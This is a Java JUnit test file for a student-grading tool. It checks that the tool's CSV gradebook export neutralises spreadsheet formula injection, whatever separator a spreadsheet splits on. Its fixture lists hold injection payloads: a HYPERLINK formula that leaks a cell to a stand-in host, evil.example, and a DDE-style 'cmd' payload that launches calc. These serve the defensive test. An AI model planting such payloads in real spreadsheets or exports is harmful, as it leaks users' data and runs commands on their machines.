package org.katajudge.cli;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.katajudge.report.CapturedOutput;
import org.katajudge.report.HandMade;
import org.katajudge.report.SubmissionResult;
import org.katajudge.report.TestOutcome;
import org.katajudge.report.Verdict;

import java.io.IOException;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The gradebook is safe in a spreadsheet whatever separator it splits lines on (OWASP, CSV
 * injection): no part of any line, split on a comma, a semicolon or a tab, starts with a formula
 * character, whatever the students named their folders or made their exceptions say; numbers stay
 * numbers.
 */
class SpreadsheetSafetyTest {

    static final List<String> HOSTILE_NAMES = List.of(
            "bob;=HYPERLINK(\"http://evil.example/?\"&A1,\"grades\")",
            "\t=1+1",
            "cr\r=2+2",
            "=SUM(1,2)",
            "+1",
            "-1",
            "@SUM(A1)",
            "comma,=1",
            "tab\t@x",
            "quote\"=1",
            "semi; =spaced",
            "\"=quoted");
    static final String HOSTILE_MESSAGE = "run-time error: java.lang.IllegalStateException: x;=cmd|' /C calc'!A0\t+cmd,-2";

    private static SubmissionResult result(String student, Verdict verdict, String message) {
        List<TestOutcome> tests = List.of(TestOutcome.compile(TestOutcome.Status.PASSED, null),
                TestOutcome.example("one", "m", TestOutcome.Status.PASSED, null),
                TestOutcome.random("m", TestOutcome.Status.PASSED, null, 300, false));
        return HandMade.result(student, "class/knight-moves/" + student, "knight-moves", verdict, message, tests, null,
                CapturedOutput.NONE);
    }

    private static String gradebook() {
        List<SubmissionResult> results = new ArrayList<>();
        for (String name : HOSTILE_NAMES) {
            results.add(result(name, Verdict.ACCEPTED, "all 1 examples and 300 random cases passed"));
        }
        results.add(result("mallory", Verdict.RUNTIME_ERROR, HOSTILE_MESSAGE));
        return Gradebook.csv(results, List.of(), "", true);
    }

    /** Every part of every line, as a spreadsheet splitting on the separator would see it: quotes and spaces it drops, dropped. */
    static void assertNoPartStartsAFormula(String csv) {
        for (String line : csv.split("\r\n")) {
            for (String separator : List.of(",", ";", "\t")) {
                for (String part : line.split(separator, -1)) {
                    String seen = part.replaceFirst("^[\" ]+", "");
                    assertFalse(!seen.isEmpty() && "=+-@\t\r".indexOf(seen.charAt(0)) >= 0,
                            () -> "split on " + (separator.equals("\t") ? "TAB" : separator) + ", a part starts a formula: "
                                    + seen + "\nin: " + line);
                }
            }
        }
    }

    @Test
    void noPartOfAnyLineStartsAFormulaWhateverTheSeparator() {
        String csv = gradebook();
        assertTrue(csv.startsWith("\uFEFF" + Gradebook.HEADER + "\r\n"), "the BOM and the header as ever: " + csv);
        assertNoPartStartsAFormula(csv.substring(1));
    }

    @Test
    void eachCellReadsBackAsItsNeutralisedText() throws IOException {
        List<CSVRecord> records;
        try (CSVParser parser = CSVParser.builder().setReader(new StringReader(gradebook().substring(1)))
                .setFormat(CSVFormat.RFC4180).get()) {
            records = parser.getRecords();
        }
        List<String> students = records.stream().skip(1).map(r -> r.get(0)).toList();
        assertTrue(students.containsAll(List.of(
                "bob;'=HYPERLINK(\"http://evil.example/?\"&A1,\"grades\")",
                "'\t'=1+1",
                "cr\\r=2+2",
                "'=SUM(1,2)",
                "'+1",
                "'-1",
                "'@SUM(A1)",
                "comma,'=1",
                "tab\t'@x",
                "quote\"=1",
                "semi; '=spaced",
                "\"'=quoted")), students::toString);
        String message = records.stream().filter(r -> r.get(0).equals("mallory")).findFirst().orElseThrow().get(10);
        assertEquals("run-time error: java.lang.IllegalStateException: x;'=cmd|' /C calc'!A0\t'+cmd,'-2", message);
    }

    @Test
    void textIsQuotedAndNumbersStayNumbers() {
        SubmissionResult alice = result("alice", Verdict.ACCEPTED, "all 1 examples and 300 random cases passed");
        String csv = Gradebook.csv(List.of(alice), List.of(), "", false);
        assertEquals(Gradebook.HEADER + "\r\n"
                + "\"alice\",\"class/knight-moves/alice\",\"knight-moves\",\"ACCEPTED\",2,2,3,3,300,0.92,"
                + "\"all 1 examples and 300 random cases passed\"\r\n", csv);
    }
}
